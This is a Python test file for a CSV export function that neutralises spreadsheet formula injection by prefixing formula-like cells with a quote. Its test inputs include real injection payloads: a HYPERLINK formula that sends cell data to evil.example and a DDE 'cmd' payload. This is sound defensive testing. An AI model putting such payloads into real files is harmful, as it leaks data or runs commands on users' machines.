"""The CSV cell rule of every download (mos_site.spreadsheet): OWASP's neutralisation of
text a spreadsheet would run as a formula, numbers left as numbers."""

import io

import pytest

from mos_site.spreadsheet import csv_writer, spreadsheet_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-A1",
        "=",
    ],
)
def test_formula_like_text_gets_a_leading_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, -26, 3.25, "-0.5", "+3", "-1e-3", "-.5", "", "plain"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_the_writer_neutralises_every_cell_of_a_row():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", -0.5, "ok", "@x", None])
    assert out.getvalue() == "'=1+1,-0.5,ok,'@x,\n"
